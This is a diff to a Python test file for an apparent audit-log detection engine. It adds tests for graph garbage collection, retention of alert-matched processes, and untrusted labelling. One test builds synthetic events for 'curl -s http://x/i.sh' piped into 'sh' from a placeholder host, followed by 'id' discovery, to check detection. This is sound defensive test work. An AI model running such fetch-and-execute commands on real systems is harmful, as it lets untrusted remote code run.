@@ -184,7 +184,9 @@ def test_non_viable_nodes_are_pruned():
     eng = _engine()
     eng.process_lines(L.lines)
     assert "/lib64/ld-linux-x86-64.so.2" not in eng.graph.files
-    assert eng.stats()["nodes_pruned"] == 1
+    # the unmodified system program itself is not materialised either (the exec edge names it)
+    assert "/usr/bin/id" not in eng.graph.files
+    assert eng.stats()["nodes_pruned"] == 2
 
 
 def test_aging_bounds_state():
@@ -212,3 +214,93 @@ def test_stats_shape():
         "memory_bytes",
     ):
         assert k in res.stats
+
+
+def _unlink(L: Log, pid, ppid, exe, path):
+    s, t = L._sys(87, pid, ppid, exe, items=2)
+    L._path(s, t, 0, path.rsplit("/", 1)[0], "PARENT")
+    L._path(s, t, 1, path, "DELETE")
+    L._end(s, t)
+
+
+def _login_shell() -> Log:
+    """A log that starts with an SSH login (pid 10) and its shell (pid 11)."""
+    L = Log()
+    L.login(10)
+    L.fork(10, 1, 11, exe="/usr/sbin/sshd")
+    L.execve(11, 10, "/usr/bin/bash", ["-bash"])
+    return L
+
+
+def test_garbage_collection_of_self_contained_processes_and_temp_files():
+    L = _login_shell()
+    L.fork(11, 10, 12)
+    L.execve(12, 11, "/usr/bin/true", ["true"])  # touches nothing outside itself
+    L.fork(11, 10, 13)
+    L.execve(13, 11, "/usr/bin/mytool", ["mytool"])
+    L.open(13, 11, "/usr/bin/mytool", "/tmp/work.tmp", create=True)
+    _unlink(L, 13, 11, "/usr/bin/mytool", "/tmp/work.tmp")  # temp file, read by nobody
+    L.open(13, 11, "/usr/bin/mytool", "/home/u/out.txt", create=True)  # persists
+    eng = _engine()
+    eng.process_lines(L.lines)
+    g = eng.graph
+    # the temp file's create and unlink edges go as soon as it is deleted
+    assert g.stats["edges_collected"] == 2 and g.files["/tmp/work.tmp"].n == 0
+    assert g.files["/home/u/out.txt"].n == 1
+    true_edges = g.procs[12].n
+    assert true_edges >= 2  # its fork edge and its exec edge
+    assert g.collect(idle=0.0, now=10**10) == true_edges
+    assert g.procs[12].collected and not g.procs[13].collected
+    assert g.procs[13].touched and g.procs[11].kids == 1  # a retained child keeps its parent
+    assert not g.procs[10].collected
+    # active again: no longer collected, and its parent waits for it
+    L.execve(12, 11, "/usr/bin/true", ["true", "again"])
+    eng.process_lines(L.lines[-6:])
+    assert not g.procs[12].collected and g.procs[11].kids >= 1
+    # without reduction nothing is collected
+    off = _engine(reduce=False)
+    off.process_lines(L.lines)
+    assert off.graph.collect(idle=0.0, now=10**10) == 0 and off.graph.stats["edges_collected"] == 0
+
+
+def test_labelled_or_matched_processes_are_never_collected():
+    L = _login_shell()
+    L.fork(11, 10, 12)
+    L.execve(12, 11, "/usr/bin/id", ["id"])  # discovery rule matches: explained by an alert
+    eng = _engine()
+    eng.process_lines(L.lines)
+    g = eng.graph
+    g.procs[11].labels |= T.UNTRUSTED
+    g.collect(idle=0.0, now=10**10)
+    assert g.procs[12].keep and not g.procs[12].collected
+    assert not g.procs[11].collected
+
+
+def test_shell_piped_from_a_downloader_runs_untrusted_content():
+    """``curl URL | sh`` (pipes are not audited): the stdin shell beside curl is untrusted."""
+    L = _login_shell()
+    L.fork(11, 10, 12)
+    L.fork(11, 10, 13)
+    L.fork(11, 10, 14)
+    L.execve(12, 11, "/usr/bin/curl", ["curl", "-s", "http://x/i.sh"])
+    L.execve(13, 11, "/usr/bin/sh", ["sh"])
+    L.execve(14, 11, "/usr/bin/head", ["head", "-3"])
+    L.connect(12, 11, "/usr/bin/curl", 9999)
+    L.fork(13, 11, 15)
+    L.execve(15, 13, "/usr/bin/id", ["id"])
+    eng = _engine()
+    eng.process_lines(L.lines)
+    g = eng.graph
+    assert g.procs[13].labels & T.UNTRUSTED and g.procs[15].labels & T.UNTRUSTED
+    assert not g.procs[14].labels & T.UNTRUSTED  # head is not a shell
+    assert not g.procs[11].labels & T.UNTRUSTED
+    # a shell running a script file next to curl is not taken for a pipe reader
+    L2 = _login_shell()
+    L2.fork(11, 10, 12)
+    L2.fork(11, 10, 13)
+    L2.execve(12, 11, "/usr/bin/curl", ["curl", "-s", "http://x/i.sh"])
+    L2.execve(13, 11, "/usr/bin/sh", ["sh", "build.sh"])
+    L2.connect(12, 11, "/usr/bin/curl", 9999)
+    eng2 = _engine()
+    eng2.process_lines(L2.lines)
+    assert not eng2.graph.procs[13].labels & T.UNTRUSTED
